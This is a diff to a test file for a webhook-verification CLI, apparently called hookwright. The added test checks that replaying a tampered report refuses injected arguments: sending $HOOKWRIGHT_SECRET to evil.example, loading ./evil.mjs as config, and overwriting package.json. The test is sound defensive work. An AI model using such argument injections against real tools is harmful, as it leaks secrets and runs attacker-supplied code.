@@ -76,7 +76,7 @@ it("a file says in one line on stderr what is in it", async () => {
   const { origin } = await refusing();
   const file = await reportOf(origin, "--check", "accepts-valid");
   const { stderr } = await runCli(["verify", "cloudflare", "--to", origin, "--check", "accepts-valid", "--out", file]);
-  expect(stderr).toBe(`[hookwright] cloudflare: failed: accepts-valid; see ${file}\n`);
+  expect(stderr).toBe(`[hookwright] cloudflare: failed, by accepts-valid; see ${file}\n`);
 });
 
 it("a header that a report does not show is asked for, not sent as it stands there", async () => {
@@ -114,4 +114,22 @@ it.each([
   const { code, stderr } = await runCli(["replay", file]);
   expect([code, linesOf(stderr).length]).toEqual([2, 1]);
   expect(stderr).toContain(problem);
+});
+
+it.each([
+  { words: ["--prepare", "https://evil.example/$HOOKWRIGHT_SECRET"], says: "Failed to send to evil.example" },
+  { words: ["--observe", "https://evil.example/{id}"], says: "Failed to send to evil.example" },
+  { words: ["--config=./evil.mjs"], says: 'the report asks for "--config=./evil.mjs"' },
+  { words: ["--out", "package.json"], says: 'the report asks for "--out"' },
+])("a stranger's report that asks for $words is refused: nothing is sent, run or written", async ({ words, says }) => {
+  const { origin, seen } = await refusing();
+  const file = await reportOf(origin, "--check", "accepts-valid");
+  const report = JSON.parse(readFileSync(file, "utf8")) as {
+    checks: [{ counterexample: { replay: { words: string[] } } }];
+  };
+  report.checks[0].counterexample.replay.words.push(...words);
+  await writeFile(file, JSON.stringify(report));
+  seen.splice(0);
+  const { code, stderr } = await runCli(["replay", file], { env: { HOOKWRIGHT_SECRET: "s3cret" } });
+  expect([code, stderr, seen]).toEqual([2, expect.stringContaining(says), []]);
 });
